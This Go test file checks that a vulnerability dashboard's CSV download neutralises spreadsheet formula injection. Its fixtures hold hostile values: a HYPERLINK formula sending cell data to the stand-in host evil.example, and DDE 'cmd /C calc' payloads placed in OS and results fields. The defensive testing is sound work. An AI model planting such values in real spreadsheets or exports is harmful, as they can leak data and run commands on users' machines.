package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"qvt/internal/assess"
	"qvt/internal/load"
	"qvt/internal/qualys"
	"qvt/internal/store/storetest"
)

// The dashboard's CSV download writes a hostile title, hostname and
// result as text, not as formulas a spreadsheet would run.
func TestCSVDownloadNeutralisesFormulas(t *testing.T) {
	storetest.Run(t, func(t *testing.T, loc string) {
		dir := t.TempDir()
		at := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
		var kb bytes.Buffer
		kw := qualys.NewKBWriter(&kb, at.Format(time.RFC3339))
		if err := kw.Vuln(&qualys.Vuln{QID: 990100, VulnType: "Vulnerability", Severity: 4,
			Title:     `=HYPERLINK("https://evil.example/?"&A1,"Click for details")`,
			Category:  "General remote services",
			Published: "2026-01-01T00:00:00Z", LastModified: "2026-01-02T00:00:00Z"}); err != nil {
			t.Fatal(err)
		}
		if err := kw.Close(nil); err != nil {
			t.Fatal(err)
		}
		var hld bytes.Buffer
		hw := qualys.NewHostListDetectionWriter(&hld, at.Format(time.RFC3339))
		if err := hw.Host(&qualys.Host{ID: 990100, IP: "10.98.0.1", DNS: "@evil.example", OS: "+cmd|' /C calc'!A0",
			LastVMScanned: at.Format(time.RFC3339),
			Detections: []qualys.Detection{{QID: 990100, Port: 443, Protocol: "tcp", Type: "Confirmed", Severity: 4,
				Status: "Active", FirstFound: at.Add(-48 * time.Hour).Format(time.RFC3339), LastFound: at.Format(time.RFC3339),
				TimesFound: 2, Results: "-1+cmd|' /C calc'!A0"}}}); err != nil {
			t.Fatal(err)
		}
		if err := hw.Close(nil); err != nil {
			t.Fatal(err)
		}
		kbPath, hldPath := filepath.Join(dir, "kb.xml"), filepath.Join(dir, "hld.xml")
		os.WriteFile(kbPath, kb.Bytes(), 0o600)
		os.WriteFile(hldPath, hld.Bytes(), 0o600)
		st, err := storeOpenAt(t, loc)
		if err != nil {
			t.Fatal(err)
		}
		l := &load.Loader{Policy: assess.DefaultPolicy()}
		if _, err := l.Files(context.Background(), st, []string{kbPath, hldPath}); err != nil {
			t.Fatal(err)
		}
		s, err := New(st, Config{}, nil)
		if err != nil {
			t.Fatal(err)
		}
		s.now = func() time.Time { return at }
		t.Cleanup(func() { s.Close() })
		hs := newHTTPTest(s)
		t.Cleanup(hs.Close)

		status, _, body := get(t, hs, "/findings.csv?status=all")
		if status != 200 {
			t.Fatalf("findings.csv: %d\n%s", status, body)
		}
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 2 {
			t.Fatalf("%d rows, want a header and one finding:\n%s", len(recs), body)
		}
		got := map[string]string{}
		for i, col := range recs[0] {
			got[col] = recs[1][i]
		}
		for col, want := range map[string]string{
			"title":    `'=HYPERLINK("https://evil.example/?"&A1,"Click for details")`,
			"hostname": "'@evil.example",
			"os":       "'+cmd|' /C calc'!A0",
			"results":  "'-1+cmd|' /C calc'!A0",
			"port":     "443",
		} {
			if got[col] != want {
				t.Errorf("%s = %q, want %q", col, got[col], want)
			}
		}
	})
}
